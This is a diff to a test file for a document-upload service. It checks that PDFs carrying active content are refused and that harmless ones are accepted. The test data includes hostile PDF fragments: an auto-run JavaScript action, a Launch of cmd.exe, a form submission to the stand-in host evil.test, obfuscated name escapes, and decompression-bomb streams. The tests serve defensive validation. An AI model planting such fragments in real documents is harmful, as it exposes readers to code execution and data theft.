@@ -2,11 +2,13 @@
 import { mkdtemp, readdir, rm } from "node:fs/promises";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
+import { deflateSync } from "node:zlib";
 import sharp from "sharp";
 import { afterAll, beforeAll, expect, test } from "vitest";
 import { deleteDocument, listDocuments, type OwnDocument } from "#contract/documents.ts";
 import { readTeacherProfile } from "#contract/teachers.ts";
 import { drawDocument } from "#demo/draw-document.ts";
+import { arrivalsDir } from "#server/files/arriving-uploads.ts";
 import { createTestApp, type TestApp } from "#test/app.ts";
 import { startClamd, type TestClamd } from "#test/clamd.ts";
 import { makePerson, type TestPerson } from "#test/people.ts";
@@ -131,7 +133,61 @@ test.each<[string, () => Buffer | Promise<Buffer>, number, string]>([
   expect(answer.body.issues?.[0]?.message).toMatch(/\w+ \w+/);
   expect(await kept()).toEqual(before);
   expect((await app.call(listDocuments, { token: owner.token })).body).toEqual([]);
-  expect(await readdir(tmpdir())).toEqual([]);
+  expect(await readdir(arrivalsDir())).toEqual([]);
+});
+
+/** The example with one more object in it. */
+const pdfWith = (object: string | Buffer) => {
+  const at = pdf.indexOf("xref\n");
+  const wrapped = [Buffer.from("9 0 obj\n"), Buffer.from(object), Buffer.from("\nendobj\n")];
+  return Buffer.concat([pdf.subarray(0, at), ...wrapped, pdf.subarray(at)]);
+};
+/** Objects packed into a stream, as PDF 1.5 may. */
+const packed = (objects: string, dictionary = "/Filter /FlateDecode", bytes = deflateSync(`1 0 ${objects}`)) =>
+  pdfWith(
+    Buffer.concat([
+      Buffer.from(`<< /Type /ObjStm /N 1 /First 4 ${dictionary} /Length ${bytes.length} >>\nstream\n`),
+      bytes,
+      Buffer.from("\nendstream"),
+    ]),
+  );
+const script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
+
+test.each<[string, Buffer, string]>([
+  ["a script", pdfWith(script), "pdf_active"],
+  ["a script in escapes", pdfWith("<< /S /J#61va#53cript /JS (x) >>"), "pdf_active"],
+  ["a script that opens with it", pdfWith(`<< /Type /Catalog /OpenAction ${script} >>`), "pdf_active"],
+  ["a program to launch", pdfWith("<< /S /Launch /F (cmd.exe) >>"), "pdf_active"],
+  ["an attached file", pdfWith("<< /Names << /EmbeddedFiles 7 0 R >> >>"), "pdf_active"],
+  ["a form that sends", pdfWith("<< /S /SubmitForm /F (http://evil.test) >>"), "pdf_active"],
+  ["a password", pdfWith("<< /Root 1 0 R/Encrypt<< /Filter /Standard >> >>"), "pdf_locked"],
+  ["a script among packed objects", packed(script), "pdf_active"],
+  ["an attached file among packed objects", packed("<< /Type /EmbeddedFile >>"), "pdf_active"],
+  [
+    "packed objects that cannot be looked into",
+    packed(script, "/Filter [/LZWDecode]", Buffer.from("xyz")),
+    "pdf_active",
+  ],
+  [
+    "packed objects mixed with their neighbours",
+    packed("x", "/Filter /FlateDecode /DecodeParms << /Predictor 12 >>"),
+    "pdf_active",
+  ],
+  ["packed objects without end", packed("1 ".repeat(40_000_000)), "pdf_active"],
+  ["compressed parts without number", pdfWith("stream\n\x78\x01\n".repeat(6000)), "pdf_active"],
+])("R5.4 a PDF with %s is refused in clear words", async (_what, bytes, code) => {
+  const { status, body } = await upload(await make(), { bytes });
+  expect([status, body.issues?.map((issue) => issue.code)]).toEqual([400, [code]]);
+  expect(body.issues?.[0]?.message).toMatch(/send a photo of the paper/);
+});
+
+test.each<[string, Buffer]>([
+  ["a place to open at", pdfWith("<< /Type /Catalog /OpenAction [3 0 R /Fit] >>")],
+  ["a link", pdfWith("<< /S /URI /URI (https://university.example) >>")],
+  ["packed objects", packed("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")],
+  ["words that sound like names", pdfWith("<< /EncryptMetadata false /JavaScripture (x) >>")],
+])("R5.4 a PDF with %s is taken", async (_what, bytes) => {
+  expect((await upload(await make(), { bytes })).status).toBe(201);
 });
 
 test.each<[Record<string, string>, string, string]>([
@@ -200,7 +256,7 @@ test("R5.4 the same through a bucket", async () => {
   await second.call(deleteDocument, { token: owner.token, params: { id: body.id ?? "" } });
   await s3.stop();
   const refused = await upload(owner, { bytes: pdf }, undefined, second);
-  expect(refused.status).toBe(500);
+  expect(refused.status).toBe(503);
   expect((await app.call(listDocuments, { token: owner.token })).body).toEqual([]);
   await second.close();
 });
